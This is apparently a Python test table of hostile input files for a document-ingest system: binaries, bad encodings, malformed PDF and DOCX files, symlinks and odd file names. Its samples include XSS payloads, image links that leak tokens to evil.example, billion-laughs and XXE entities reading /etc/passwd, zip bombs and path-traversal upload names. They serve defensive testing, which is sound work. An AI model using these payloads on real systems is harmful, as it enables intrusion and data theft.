"""The table of hostile inputs: how each is made and what ingest must make of it.

Each :class:`Case` writes its files into a folder of its own and returns the
paths to hand to ``qa.ingest``. ``expect`` lists the statuses its files must
end with (in any order); a failed or duplicate file's message must contain
every one of ``keywords``. For files that are ingested, ``contains`` must be in
the indexed text and ``absent`` nowhere in it (text, chunks, title), and the
case's marker word must find the document.

Files are made at run time; only the two ``big`` cases are large (a 201 MiB text
file, a 2000-page PDF), and they are measured.
"""

from __future__ import annotations

import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path

import pytest

from tests.hostile import helpers as h

# Statuses of a file that was read: its document is searchable.
INDEXED = ("added", "replaced", "unchanged")


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[Path], list[Path]]
    expect: tuple[str, ...]
    keywords: tuple[str, ...] = ()
    contains: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()
    seconds: float = 60.0  # the ingest of this case plus two good files must end by then
    marks: tuple[pytest.MarkDecorator, ...] = field(default=())
    big: bool = False  # measured and reported; kept out of the all-in-one batch

    @property
    def marker(self) -> str:
        """The word every readable file of this case contains (one FTS5 token)."""
        return "mk" + "".join(c for c in self.id if c.isalnum())

    @property
    def alone(self) -> bool:
        """Run in a batch of its own: it is big, or it is known to break the batch."""
        return self.big or bool(self.marks)

    def param(self) -> object:
        return pytest.param(self, id=self.id, marks=self.marks)


def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    return path


def file(name: str, content: Callable[[str], bytes | str]) -> Callable[[Path], list[Path]]:
    """A maker of one file ``name`` whose content is built from the case's marker."""

    def make(folder: Path) -> list[Path]:
        return [write(folder, name, content(marker_of(folder)))]

    return make


def marker_of(folder: Path) -> str:
    return "mk" + "".join(c for c in folder.name if c.isalnum())


def binary(seed: int, size: int = 64 * 1024, head: bytes = b"\x7fELF\x02\x01\x01\0") -> bytes:
    rng = random.Random(seed)
    return head + bytes(rng.randrange(256) for _ in range(size))


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
FRENCH = "Le café du coin sert une crème brûlée; le garçon naïf paie à l'oeil."
XSS = (
    "<script>alert('xss')</script>"
    "<img src=x onerror=\"alert('img')\">"
    "<svg onload=alert(1)><circle r=1 /></svg>"
    "<iframe src=\"javascript:alert('frame')\"></iframe>"
    "<style>body { background: url(javascript:alert(2)) }</style>"
)
XSS_ABSENT = ("alert(", "onerror", "onload", "javascript:", "<script", "<iframe", "<svg")


# --- makers that need more than one line -----------------------------------------


def long_line(marker: str) -> str:
    return " ".join([h.prose(marker, 1)] * 300)  # one ~35 KB line


def no_whitespace(marker: str) -> str:
    rng = random.Random(marker)
    return marker + "-" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(100_000))


def mostly_controls(marker: str) -> str:
    """Valid UTF-8 whose characters are nearly all C0/C1 controls, with a little prose."""
    rng = random.Random(marker)
    controls = [chr(c) for c in (*range(1, 9), *range(14, 32), *range(0x80, 0xA0))]
    return "".join(rng.choice(controls) for _ in range(20_000)) + h.prose(marker, 2)


def bits(marker: str) -> str:
    rng = random.Random(marker)
    return "".join(rng.choice("01") for _ in range(40_000))


def no_whitespace_words(marker: str, size: int) -> str:
    """``size`` characters of words run together without a single space."""
    rng = random.Random(marker)
    out = [marker, "-"]
    length = len(marker) + 1
    while length < size:
        word = rng.choice(h.WORDS)
        out.append(word)
        length += len(word)
    return "".join(out)[:size]


def punctuated_blob(marker: str) -> str:
    rng = random.Random(marker)
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
    return marker + "," + "".join(rng.choice(alphabet) for _ in range(12_000))


def mixed_encodings(marker: str) -> bytes:
    return (
        h.prose(marker, 3).encode() + b"\n\n" + FRENCH.encode("utf-8") + b"\n\n"
        + FRENCH.encode("latin-1") + b"\n\n" + h.prose(marker + "x", 2).encode()
    )


def invalid_utf8(marker: str) -> bytes:
    text = h.prose(marker, 8).encode()
    rng = random.Random(marker)
    out = bytearray(text)
    for _ in range(12):  # lone continuation bytes and truncated sequences
        out.insert(rng.randrange(len(out)), rng.choice([0x80, 0xBF, 0xC3, 0xE2, 0xFF]))
    return bytes(out)


def nul_sprinkled(marker: str) -> bytes:
    text = h.prose(marker, 6).encode()
    return b"".join(text[i : i + 80] + b"\0" for i in range(0, len(text), 80))


def control_chars(marker: str) -> str:
    return (
        f"\x1b[2J\x1b[31m{h.prose(marker, 2)}\x1b[0m\x07\x08\x0b\n\n"
        f"{h.prose(marker + 'b', 2)}\x9b31m\x85\x1b]0;title\x07"
    )


def markdown_raw_html(marker: str) -> str:
    return (
        f"# Notes {marker}\n\n{h.prose(marker, 2)}\n\n{XSS}\n\n"
        "<div onclick=\"alert('div')\">Inline <b>bold</b> words stay.</div>\n\n"
        "<a href=\"javascript:alert('a')\">a link</a> <u>underlined</u> text.\n"
    )


def markdown_links(marker: str) -> str:
    """A javascript: link (CommonMark leaves it as plain text) and an image that exfiltrates."""
    return (
        f"{h.prose(marker, 2)}\n\n[click me](javascript:alert('md')) and "
        "![exfil](https://evil.example/collect?d=SECRET_TOKEN) and "
        "[a fine link](https://example.org/page) end.\n"
    )


def markdown_deep(marker: str) -> str:
    quotes = "> " * 3000 + h.prose(marker, 1)
    lists = "\n".join("  " * i + "- item" for i in range(1500))
    return f"{h.prose(marker, 2)}\n\n{quotes}\n\n{lists}\n\n" + "*" * 20000 + "\n"


def html_page(body: str, title: str = "A page") -> str:
    return f"<!doctype html><html><head><title>{title}</title></head><body>{body}</body></html>"


def html_deep(marker: str) -> str:
    depth = 100_000
    return html_page("<div>" * depth + f"<p>{h.prose(marker, 2)}</p>" + "</div>" * depth)


def html_malformed(marker: str) -> str:
    return (
        "<html><body><p>Unclosed <b>bold <i>italic <table><tr><td>cell</p></b>"
        f"</div></span></td><p>{h.prose(marker, 2)}</html> after the end"
        "<p>and <unknown-tag attr=>custom</unknown-tag> & < > <<<>>> </p></p></body>"
        "<p class=\"never closed>swallowed by the open quote"
    )


def html_entity_bomb(marker: str) -> str:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    ]
    return (
        f"<?xml version=\"1.0\"?><!DOCTYPE html [{''.join(entities)}]>"
        f"<html><body><p>{h.prose(marker, 2)}</p><p>&lol9;</p></body></html>"
    )


def html_utf16(marker: str) -> bytes:
    return html_page(f"<p>{h.prose(marker, 2)}</p><p>{FRENCH}</p>").encode("utf-16")


def big_text(marker: str, folder: Path) -> list[Path]:
    """201 MiB of real text lines: just over the default 200 MB limit (QA_MAX_FILE_MB)."""
    block = ((h.prose(marker, 8) + "\n") * 2000).encode()[: 2**20]
    path = folder / "huge.txt"
    with open(path, "wb") as out:
        for _ in range(201):
            out.write(block)
    return [path]


def many_pages(marker: str) -> bytes:
    return h.pdf_bytes([f"Page {i} of the {marker} survey, part {marker}p{i}: "
                        + h.prose(f"{marker}x", 1) for i in range(1, PAGES + 1)])


PAGES = 2000


def good_pdf(marker: str) -> bytes:
    return h.pdf_bytes([h.prose(marker, 4), h.prose(marker + "p2", 4)], title=f"Report {marker}")


def truncated(data: bytes, share: float) -> bytes:
    return data[: int(len(data) * share)]


def corrupt_pdf(marker: str) -> bytes:
    data = bytearray(good_pdf(marker))
    rng = random.Random(marker)
    for _ in range(200):  # scribble over the body, the xref and the trailer
        data[rng.randrange(16, len(data))] = rng.randrange(256)
    return bytes(data)


def docx_with_zeros(marker: str) -> bytes:
    return h.zip_with_zeros(h.docx_bytes([h.prose(marker, 2)]), "word/media/image1.png", 160)


def docx_lying_sizes(marker: str) -> bytes:
    """document.xml inflates to 40 MB but its headers say 1000 bytes."""
    xml = DOCUMENT_XML.format(doctype="", text=h.prose(marker, 2), entity=" " * (40 * 2**20))
    base = h.rezip(h.docx_bytes(["placeholder"]), replace={"word/document.xml": xml.encode()})
    return h.understate_size(base, "word/document.xml", 1000)


def docx_many_members(marker: str) -> bytes:
    out = BytesIO(h.docx_bytes([h.prose(marker, 2)]))
    with zipfile.ZipFile(out, "a") as archive:
        for i in range(10_001):
            archive.writestr(f"bulk/item{i}.xml", b"<a/>")
    return out.getvalue()


def plain_zip(marker: str) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", h.prose(marker, 2))
    return out.getvalue()


DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    "<w:p><w:r><w:t>{entity}</w:t></w:r></w:p></w:body></w:document>"
)


def docx_entities(marker: str, doctype: str, entity: str) -> bytes:
    xml = DOCUMENT_XML.format(doctype=doctype, text=h.prose(marker, 2), entity=entity)
    return h.rezip(h.docx_bytes(["placeholder"]), replace={"word/document.xml": xml.encode()})


def billion_laughs(marker: str) -> bytes:
    entities = '<!ENTITY lol "lollollollol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    return docx_entities(marker, f"<!DOCTYPE w:document [{entities}]>", "&lol9;")


def xxe(marker: str) -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return docx_entities(marker, doctype, "&xxe;")


# --- makers of several files or of special files ------------------------------------


def dot_dot(folder: Path) -> list[Path]:
    write(folder, "notes.txt", h.prose(marker_of(folder), 3))
    (folder / "sub").mkdir()
    return [folder / "sub" / ".." / "notes.txt"]


def control_name(folder: Path) -> list[Path]:
    return [write(folder, "ctl\x1b[31mred\x07bell\ttab\nline\x7f.txt", h.prose(marker_of(folder)))]


def long_name(folder: Path) -> list[Path]:
    name = "long-" + "é" * 120 + ".md"  # 248 bytes: just under the 255-byte limit
    return [write(folder, name, h.prose(marker_of(folder)))]


def hidden_in_folder(folder: Path) -> list[Path]:
    write(folder, ".secret.txt", h.prose(marker_of(folder)))
    write(folder, ".git/config.txt", h.prose(marker_of(folder) + "git"))
    return [folder]


def duplicates(folder: Path) -> list[Path]:
    text = h.prose(marker_of(folder))
    return [write(folder, "a.txt", text), write(folder, "b copy.txt", text)]


def duplicate_other_type(folder: Path) -> list[Path]:
    text = h.prose(marker_of(folder))
    return [write(folder, "same.txt", text), write(folder, "same.md", text)]


def uploads(name: str) -> Callable[[Path], list[Path]]:
    """An upload under a hostile name, stored where the web app stores it."""

    def make(folder: Path) -> list[Path]:
        from qa.uploads import upload_path

        data = h.prose(marker_of(folder)).encode()
        target = upload_path(folder / "uploads", name, data)
        assert target.resolve().is_relative_to((folder / "uploads").resolve()), target
        assert "\n" not in target.name and "\x1b" not in target.name and len(target.name) <= 255
        return [write(target.parent, target.name, data)]

    return make


def duplicate_of_control_name(folder: Path) -> list[Path]:
    text = h.prose(marker_of(folder))
    return [write(folder, "dup\nname\x1b[2J.txt", text), write(folder, "dup2.txt", text)]


def symlink_outside(folder: Path) -> list[Path]:
    outside = folder.parent / f"outside-{folder.name}.txt"
    outside.write_text(h.prose(marker_of(folder) + "out"))
    docs = folder / "docs"
    docs.mkdir()
    (docs / "escape.txt").symlink_to(outside)
    (docs / "passwd.txt").symlink_to("/etc/passwd")
    (docs / "zero.txt").symlink_to("/dev/zero")
    (docs / "up").symlink_to(folder.parent, target_is_directory=True)
    return [docs]


def symlink_loop(folder: Path) -> list[Path]:
    docs = folder / "docs"
    docs.mkdir()
    (docs / "a.txt").symlink_to("b.txt")
    (docs / "b.txt").symlink_to("a.txt")
    return [docs]


def symlink_dangling(folder: Path) -> list[Path]:
    docs = folder / "docs"
    docs.mkdir()
    (docs / "gone.txt").symlink_to(docs / "missing.txt")
    return [docs]


def fifo_in_folder(folder: Path) -> list[Path]:
    docs = folder / "docs"
    docs.mkdir()
    os.mkfifo(docs / "pipe.txt")
    return [docs]


def device_link(folder: Path) -> list[Path]:
    link = folder / "zero.txt"
    link.symlink_to("/dev/zero")
    return [link]


def dir_with_suffix(folder: Path) -> list[Path]:
    write(folder, "looks-like.txt/inner.md", h.prose(marker_of(folder)))
    return [folder / "looks-like.txt"]


CASES: list[Case] = [
    # --- empty and whitespace-only -----------------------------------------------------
    Case("txt-empty", file("empty.txt", lambda m: b""), ("failed",), ("empty",)),
    Case("txt-whitespace", file("blank.txt", lambda m: " \n\t \r\n\u3000\u00a0 \n"),
         ("failed",), ("no text",)),
    Case("md-frontmatter-only", file("meta.md", lambda m: "---\ntitle: Nothing\n---\n\n  \n"),
         ("failed",), ("no text",)),
    Case("html-markup-only", file("blank.html", lambda m: html_page(
        "<script>var a = 1;</script><style>p{}</style><div hidden>secret</div>")),
         ("failed",), ("no text",)),
    Case("pdf-empty", file("empty.pdf", lambda m: b""), ("failed",), ("empty",)),
    Case("docx-empty-body", file("empty.docx", lambda m: h.docx_bytes([])),
         ("failed",), ("no text",)),
    # --- binaries with text extensions ---------------------------------------------------
    Case("txt-binary", file("program.txt", lambda m: binary(1)), ("failed",), ("binary",)),
    Case("txt-png", file("picture.txt", lambda m: binary(2, head=PNG)), ("failed",), ("binary",)),
    Case("md-binary", file("program.md", lambda m: binary(3)), ("failed",), ("binary",)),
    Case("html-binary", file("program.html", lambda m: binary(4)), ("failed",), ("binary",)),
    Case("htm-binary", file("picture.htm", lambda m: binary(5, head=PNG)), ("failed",),
         ("binary",)),
    Case("pdf-binary", file("program.pdf", lambda m: binary(6)), ("failed",),
         ("not a readable pdf",)),
    Case("docx-binary", file("program.docx", lambda m: binary(7)), ("failed",),
         ("not a zip",)),
    # Binary data that decodes to "text": no NUL or magic header to give it away.
    Case("txt-random-bytes", file("noise.txt", lambda m: random.Random(m).randbytes(50_000)),
         ("failed",), ("binary",)),
    Case("txt-mostly-controls", file("controls.txt", mostly_controls), ("failed",),
         ("binary",)),
    Case("txt-mostly-replacement", file("fffd.txt", lambda m: "\ufffd" * 20_000 + h.prose(m, 2)),
         ("failed",), ("binary", "undecodable")),
    Case("txt-tiny-alphabet", file("filler.txt", lambda m: "D" * 50_000), ("failed",),
         ("binary", "'D'")),
    Case("txt-bits", file("bits.txt", bits), ("failed",), ("binary", "'01'")),
    Case("md-tiny-alphabet", file("filler.md", lambda m: "AB" * 20_000), ("failed",),
         ("binary", "'AB'")),
    # --- text: lines, whitespace, encodings, NUL and control characters ---------------------
    Case("txt-long-line", file("line.txt", long_line), ("added",)),
    Case("txt-no-whitespace", file("blob.txt", no_whitespace), ("added",)),
    Case("txt-no-whitespace-punct", file("base64.txt", punctuated_blob), ("added",)),
    Case("txt-no-whitespace-words", file("run.txt", lambda m: no_whitespace_words(m, 200_000)),
         ("added",)),
    Case("txt-utf16-bom", file("utf16.txt", lambda m: f"{h.prose(m, 3)}\n\n{FRENCH}".encode(
        "utf-16")), ("added",), contains=("crème brûlée",)),
    Case("txt-utf16le-nobom", file("utf16le.txt", lambda m: f"{h.prose(m, 3)}\n\n{FRENCH}".encode(
        "utf-16-le")), ("added",), contains=("crème brûlée",), absent=("\x00",)),
    Case("txt-latin1", file("latin1.txt", lambda m: f"{h.prose(m, 3)}\n\n{FRENCH}".encode(
        "latin-1")), ("added",), contains=("crème brûlée", "naïf")),
    Case("txt-mixed-encodings", file("mixed.txt", mixed_encodings), ("added",),
         contains=(f"{FRENCH}\n\n{FRENCH}",)),
    Case("txt-invalid-utf8", file("invalid.txt", invalid_utf8), ("added",)),
    Case("txt-nul-sprinkled", file("nul.txt", nul_sprinkled), ("added",), absent=("\x00",)),
    Case("txt-nul-heavy", file("nulls.txt", lambda m: h.prose(m, 2).encode() + b"\0" * 20000),
         ("failed",), ("binary",)),
    Case("txt-control-chars", file("ansi.txt", control_chars), ("added",),
         absent=("\x1b", "\x07", "\x08", "\x9b", "\x85")),
    Case("txt-html-payload", file("page.txt", lambda m: f"{h.prose(m, 2)}\n\n{XSS}\n\nAfter."),
         ("added",), absent=XSS_ABSENT),
    Case("txt-unclosed-tags", file("tags.txt", lambda m: "<script>" * 30000 + "<!--" * 30000
                                   + "<style>" + h.prose(m, 2) + "\x1b]0;no end"),
         ("added",), absent=("<script", "<!--", "<style")),
    # --- Markdown ------------------------------------------------------------------------
    Case("md-raw-html", file("notes.md", markdown_raw_html), ("added",),
         contains=("a link underlined text.", "Inline bold words stay."),
         absent=(*XSS_ABSENT, "onclick", "<b>", "<u>", "<div")),
    Case("md-links-and-images", file("links.md", markdown_links), ("added",),
         contains=("and a fine link end.",),
         absent=("evil.example", "SECRET_TOKEN", "exfil", "https://example.org")),
    Case("md-deep-nesting", file("deep.md", markdown_deep), ("added",)),
    # --- HTML ----------------------------------------------------------------------------
    Case("html-deep-nesting", file("deep.html", html_deep), ("added",)),
    Case("html-malformed", file("broken.html", html_malformed), ("added",),
         contains=("Unclosed bold italic", "cell", "after the end", "and custom & < >"),
         absent=("<unknown-tag", "swallowed")),
    Case("html-xss", file("xss.htm", lambda m: html_page(
        f"<h1>Title {m}</h1><p>{h.prose(m, 2)}</p>{XSS}"
        "<p><a href=\"javascript:alert('a')\">a link</a> and "
        "<img src=\"https://evil.example/x.png?d=SECRET\" alt=\"\">text.</p>")),
         ("added",), contains=("a link",), absent=(*XSS_ABSENT, "evil.example")),
    Case("html-entity-bomb", file("laughs.html", html_entity_bomb), ("added",),
         absent=("lollollol",)),
    Case("html-utf16", file("utf16.html", html_utf16), ("added",), contains=("crème brûlée",)),
    # --- PDF -----------------------------------------------------------------------------
    Case("pdf-truncated", file("cut.pdf", lambda m: truncated(good_pdf(m), 0.6)),
         ("failed",), ("not a readable pdf",)),
    Case("pdf-corrupt", file("scribbled.pdf", corrupt_pdf), ("failed",), ("pdf",)),
    Case("pdf-header-only", file("stub.pdf", lambda m: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
         ("failed",), ("not a readable pdf",)),
    Case("pdf-encrypted-aes", file("locked.pdf", lambda m: h.encrypted_pdf(
        good_pdf(m), "secret", "owner", "AES-256")), ("failed",), ("encrypted", "password")),
    Case("pdf-encrypted-rc4", file("locked-rc4.pdf", lambda m: h.encrypted_pdf(
        good_pdf(m), "secret", "owner", "RC4-128")), ("failed",), ("encrypted", "password")),
    Case("pdf-owner-password-only", file("restricted.pdf", lambda m: h.encrypted_pdf(
        good_pdf(m), "", "owner", "AES-128")), ("added",)),
    # A scan is read by OCR (QA_OCR=on by default), marker word included.
    Case("pdf-image-only", file("scan.pdf", lambda m: h.image_pdf(f"A picture of {m} words.")),
         ("added",), contains=("picture of mkpdfimageonly words",)),
    Case("pdf-page-tree-cycle", file("cycle.pdf", lambda m: h.cyclic_pdf(h.prose(m, 1)[:60])),
         ("failed",), ("pdf",)),
    Case("pdf-page-tree-deep", file("deep.pdf", lambda m: h.deep_tree_pdf(h.prose(m, 1)[:60],
                                                                           5000)),
         ("failed",), ("pdf",)),
    Case("pdf-flate-bomb", file("bomb.pdf", lambda m: h.flate_bomb_pdf(h.prose(m, 1)[:60], 200)),
         ("failed",), ("pdf",)),
    Case("pdf-javascript", file("script.pdf", lambda m: h.javascript_pdf(h.prose(m, 1)[:60])),
         ("added",), absent=("app.alert", "pwned")),
    # --- DOCX ----------------------------------------------------------------------------
    Case("docx-not-zip", file("old.docx", lambda m: h.prose(m)), ("failed",), ("not a zip",)),
    Case("docx-plain-zip", file("archive.docx", plain_zip), ("failed",),
         ("not a word document",)),
    Case("docx-truncated", file("cut.docx", lambda m: truncated(h.docx_bytes([h.prose(m)]), 0.5)),
         ("failed",), ("not a zip",)),
    Case("docx-zip-bomb", file("bomb.docx", docx_with_zeros), ("failed",), ("zip bomb",)),
    Case("docx-lying-sizes", file("liar.docx", docx_lying_sizes), ("failed",),
         ("not a word document",)),
    Case("docx-many-parts", file("parts.docx", docx_many_members), ("failed",), ("parts",)),
    Case("docx-billion-laughs", file("laughs.docx", billion_laughs), ("failed",),
         ("could not read word document", "amplification")),
    Case("docx-xxe", file("xxe.docx", xxe), ("added",), absent=("root:", "/bin/")),
    # --- names and paths -----------------------------------------------------------------
    Case("path-dot-dot", dot_dot, ("added",)),
    Case("name-control-chars", control_name, ("added",)),
    Case("name-very-long", long_name, ("added",)),
    Case("name-uppercase-suffix", file("LOUD.TXT", lambda m: h.prose(m)), ("added",)),
    Case("name-unsupported-suffix", file("tool.exe", lambda m: h.prose(m)), ("failed",),
         ("supported types",)),
    Case("hidden-files-in-folder", hidden_in_folder, ()),
    Case("dir-named-like-a-file", dir_with_suffix, ("added",)),
    Case("upload-dot-dot", uploads("../../../etc/cron.d/evil.txt"), ("added",)),
    Case("upload-absolute", uploads("/etc/passwd.md"), ("added",)),
    Case("upload-windows-path", uploads("..\\..\\Windows\\System32\\evil.htm"), ("added",)),
    Case("upload-control-chars", uploads("evil\x00\x1b[2J\n\r\u202etxt.exe.txt"), ("added",)),
    Case("upload-very-long", uploads("a" * 5000 + ".md"), ("added",)),
    Case("duplicate-names", duplicates, ("added", "duplicate"), ("same content",)),
    Case("duplicate-other-type", duplicate_other_type, ("added", "duplicate"), ("same content",)),
    Case("duplicate-of-control-name", duplicate_of_control_name, ("added", "duplicate"),
         ("same content",)),
    Case("symlinks-outside-folder", symlink_outside, ("failed",) * 3, ("outside",)),
    Case("symlink-dangling", symlink_dangling, ("failed",), ("no such file",)),
    Case("symlink-loop", symlink_loop, ("failed", "failed"), ("symlink",)),
    Case("fifo-in-folder", fifo_in_folder, ("failed",), ("not a regular file",)),
    Case("device-symlink-direct", device_link, ("failed",), ("not a regular file",)),
    # --- big: measured ------------------------------------------------------------------
    Case("txt-200mb", lambda folder: big_text(marker_of(folder), folder), ("failed",),
         ("over the limit", "QA_MAX_FILE_MB"), seconds=120, big=True),
    Case("pdf-thousands-of-pages", file("pages.pdf", many_pages), ("added",),
         contains=(f"mkpdfthousandsofpagesp{PAGES}",), seconds=240, big=True),
]
